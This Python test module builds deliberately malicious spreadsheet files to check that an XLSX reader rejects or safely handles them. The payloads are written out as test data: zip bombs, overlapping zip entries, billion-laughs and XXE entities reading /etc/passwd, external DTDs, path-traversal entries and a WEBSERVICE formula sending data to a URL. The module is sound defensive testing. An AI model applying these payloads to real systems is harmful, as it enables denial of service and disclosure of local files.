"""Workbooks made to hurt whoever opens them, by name; none is a large file."""

import io
import struct
import zipfile

from tests.xlsx import books
from tests.xlsx.books import MAIN, sheet, small

CELL = '<c r="B2"><v>7</v></c>'
ROW = f'<row r="2">{CELL}</row>'
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
)
DOCTYPE = f"<!DOCTYPE x [{LAUGHS}]>"
ELSEWHERE = '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">'
TEXT = books.links(("officeDocument", "word/document.xml"))
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
EVERYWHERE = "A1:XFD1048576"


def parts(**changed):
    """Return a small workbook with some parts in place of its own."""
    return books.zipped(books.unzipped(small(sheet(ROW))) | changed)


def worksheet(content):
    return parts(**{"book/one.xml": content})


def workbook(content):
    return parts(**{"book/main.xml": content})


def swollen(name, start, piece, times, end=""):
    """Return a small workbook of which a part repeats a piece very often."""
    content = books.unzipped(small(sheet(ROW), strings="<si><t>a</t></si>"))
    content[name] = start.encode() + piece.encode() * times + end.encode()
    return books.zipped(content)


def varied(name, start, form, times, end=""):
    """The same, but packed no better than a real one: deflate looks 32 KB back."""
    content = books.unzipped(small(sheet(ROW)))
    block = "".join(form.format(n=n, r=n * 2654435761 % 2**32) for n in range(1, 10_001))
    content[name] = (start + block * (times // 10_000) + end).encode()
    return books.zipped(content)


def leading_to(*targets):
    """Return a workbook whose worksheets are said to be elsewhere."""
    relations = books.links(*(("worksheet", target) for target in targets))
    return parts(**{"book/_rels/main.xml.rels": relations})


def formula(text):
    return cells(f'<row r="3"><c r="A3"><f>{text}</f><v>1</v></c></row>')


def shown_as(code):
    """Return a small workbook with a number format of its own."""
    formats = f'<numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
    return small(sheet(ROW), styles=f'{formats}<cellXfs><xf numFmtId="200"/></cellXfs>')


def cells(rows="", before="", after=""):
    return small(sheet(ROW + rows, before=before, after=after))


def many_entries(count):
    file = io.BytesIO(small(sheet(ROW)))
    with zipfile.ZipFile(file, "a") as out:
        for number in range(count):
            out.writestr(f"a/{number}", b"")
    return file.getvalue()


def overlapping():
    """Every entry of the directory points at the same bytes."""
    data = bytearray(many_entries(300))
    first = struct.unpack_from("<I", data, data.rindex(b"PK\1\2") + 42)[0]
    place = data.find(b"PK\1\2")
    while place >= 0:
        struct.pack_into("<I", data, place + 42, first)
        place = data.find(b"PK\1\2", place + 4)
    return bytes(data)


def liar(size):
    """A part that says it is small and is not."""
    data = bytearray(
        swollen("book/strings.xml", f'<sst xmlns="{MAIN}">', " ", 50_000_000, "</sst>")
    )
    for header, offset in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        place = data.rindex(header, 0, data.rindex(b"book/strings.xml") + 1)
        struct.pack_into("<I", data, place + offset, size)
    return bytes(data)


def in_utf16(text):
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


WORKSHEET = f'<worksheet xmlns="{MAIN}"><sheetData>'
END = "</sheetData></worksheet>"
BOOK = f'<workbook xmlns="{MAIN}"><sheets>'

# What is refused, with the beginning of the reason.
REFUSED = {
    "a zip bomb": (
        lambda: swollen("book/one.xml", WORKSHEET, " " * 1000, 200_000, END),
        "book/one.xml: ",
    ),
    "a part beside the workbook is the bomb": (
        lambda: swollen("media/x.bin", "", "\0" * 1000, 90_000),
        "media/x.bin: ",
    ),
    "many bombs, each of a size allowed": (
        lambda: books.zipped({f"{n}.bin": bytes(9_999_999) for n in range(41)}),
        "the file: ",
    ),
    "a bomb that lies about its size": (lambda: liar(900), "book/strings.xml: "),
    "parts that lie over each other": (overlapping, ""),
    "ten thousand parts": (lambda: many_entries(10_001), "the file: "),
    "laughs in the worksheet": (
        lambda: worksheet(DOCTYPE + sheet(ROW).partition("?>")[2]),
        "book/one.xml: ",
    ),
    "laughs in the workbook": (
        lambda: workbook(DOCTYPE + "<workbook>&l9;</workbook>"),
        "book/main.xml: ",
    ),
    "laughs in UTF-16": (
        lambda: worksheet(in_utf16(DOCTYPE + "<worksheet>&l9;</worksheet>")),
        "book/one.xml: ",
    ),
    "laughs in the relations": (
        lambda: books.zipped({"_rels/.rels": DOCTYPE + "<Relationships/>"}),
        "_rels/.rels: ",
    ),
    "a file of this machine as an entity": (
        lambda: worksheet(OUTSIDE + "<worksheet>&e;</worksheet>"),
        "book/one.xml: ",
    ),
    "an encoding that takes for ever": (
        lambda: worksheet(b'<?xml version="1.0" encoding="punycode"?>' + b"a" * 10**6),
        "book/one.xml: ",
    ),
    "millions of cells": (
        lambda: varied("book/one.xml", WORKSHEET, '<c r="A{n}"/>', 2_500_000, END),
        "Roster: ",
    ),
    "millions of tags": (
        lambda: varied("book/one.xml", WORKSHEET, "<a{n}/>", 4_010_000, END),
        "book/one.xml: ",
    ),
    "millions of tags in the workbook": (
        lambda: varied("book/main.xml", BOOK, "<a{r}/>", 600_000, "</sheets></workbook>"),
        "book/main.xml: ",
    ),
    "very many attributes": (
        lambda: varied("book/main.xml", "<workbook", ' a{n}=">{r}"', 100_000, "/>"),
        "book/main.xml: ",
    ),
    "a text of two million letters": (
        lambda: cells(f'<row r="3"><c r="A3"><v>{"=1+" * 700_000}</v></c></row>'),
        "book/one.xml: ",
    ),
    "a row of many digits": (lambda: cells(f'<row r="{"9" * 5000}"/>'), ""),
    "a text that is not there": (
        lambda: cells('<row r="3"><c r="A3" t="s"><v>99</v></c></row>'),
        "",
    ),
    "a path out of the package": (
        lambda: books.zipped(books.unzipped(cells()) | {"../../etc/cron.d/x": "x"}),
        "'../../etc",
    ),
    "a path from the root": (
        lambda: books.zipped(books.unzipped(cells()) | {"/etc/passwd": "x"}),
        "'/etc/passwd'",
    ),
    "a document type from elsewhere": (
        lambda: worksheet(ELSEWHERE + sheet(ROW).partition("?>")[2]),
        "book/one.xml: ",
    ),
    "an encoding with a very long name": (
        lambda: worksheet(f'<?xml version="1.0" encoding="{"a" * 40_000}"?><x/>'),
        "book/one.xml: ",
    ),
    "a worksheet that is a file of this machine": (
        lambda: leading_to("/etc/passwd", "../../../../etc/passwd", "file:///etc/passwd"),
        "the workbook: ",
    ),
    "a worksheet from the net": (
        lambda: leading_to("http://127.0.0.1:9/one.xml"),
        "the workbook: ",
    ),
    "nothing at all": (lambda: b"", "the file: "),
    "a page that calls itself a workbook": (
        lambda: b"<html><table><tr><td>1</td></tr></table></html>",
        "the file: ",
    ),
    "a document of another program": (
        lambda: books.zipped({"_rels/.rels": TEXT, "word/document.xml": "<document/>"}),
        "the file: ",
    ),
    "half a file": (lambda: cells()[:500], "the file: "),
    "no zip": (lambda: b"PK\3\4" + bytes(5000), "the file: "),
}

# What looks bad and is harmless: read, and changed.
HARMLESS = {
    "a value in the last cell of all": lambda: cells(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "an array over the whole worksheet": lambda: cells(
        f'<row r="9"><c r="A9"><f t="shared" si="0" ref="{EVERYWHERE}">B2</f></c></row>'
    ),
    "a merge, names and a table of everything": lambda: cells(
        after=f'<conditionalFormatting sqref="{EVERYWHERE}"/>'
        f'<dataValidations><dataValidation sqref="{EVERYWHERE}"/></dataValidations>'
    ),
    "names that mean each other": lambda: small(
        sheet(ROW + '<row r="3"><c r="A3"><f>ping+B2</f><v>1</v></c></row>'),
        workbook="<definedNames><definedName name='ping'>pong</definedName>"
        "<definedName name='pong'>ping</definedName></definedNames>",
    ),
    "brackets in brackets": lambda: cells(
        f'<row r="3"><c r="A3"><f>{"(" * 4000}B2{")" * 4000}</f><v>7</v></c></row>'
    ),
    "brackets that never close": lambda: formula("[" * 900_000),
    "quotes that never close": lambda: formula("'" * 900_000),
    "a hundred thousand cells in a formula": lambda: formula(
        "+".join(f"A{n}" for n in range(1, 100_000))
    ),
    "a number format of brackets": lambda: shown_as("[" * 450_000 + "d" * 450_000),
    "a million elements in elements": lambda: cells(
        '<row r="5">' + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</row>"
    ),
    "rows in rows": lambda: cells(
        f'<row r="5"><row r="6"><c r="A6"/></row></row>{"<row/>" * 9}'
    ),
    "texts in texts": lambda: small(
        sheet(ROW), strings="<si><t>a</t><si><r><t>b</t></r></si></si>" * 9_000
    ),
    "a prefix of nothing": lambda: cells('<row r="5"><c r="A5" x:y="1"/></row>'),
    "a zip file in a zip file": lambda: parts(
        **{"x/bomb.zip": books.zipped({"a.zip": books.zipped({"b": bytes(9_000_000)})})}
    ),
    "parts of types they are not": lambda: parts(
        **{"[Content_Types].xml": "<Types", "book/x.png": "<no/>"}
    ),
    "elements in elements": lambda: cells(after="<a>" * 100_000 + "</a>" * 100_000),
    "a hundred thousand merges": lambda: cells(
        after="<mergeCells>"
        + "".join(f'<mergeCell ref="D{n}:E{n}"/>' for n in range(5, 100_005))
        + "</mergeCells>"
    ),
    "a formula that looks at a file": lambda: cells(
        '<row r="3"><c r="A3"><f>WEBSERVICE("http://x/"&amp;B2)+\'[1]S\'!A1</f><v>1</v></c></row>'
    ),
    "days past all days": lambda: small(
        sheet(f'{ROW}<row r="3"><c r="A3" s="1"><v>1e999</v></c></row>'),
        styles='<cellXfs><xf/><xf numFmtId="14"/></cellXfs>',
    ),
    "numbers past all numbers": lambda: cells(
        '<row r="3"><c r="A3"><v>1e999</v></c>'
        '<c r="B3"><v>-1e999</v></c><c r="C3"><v>NaN</v></c></row>'
    ),
}
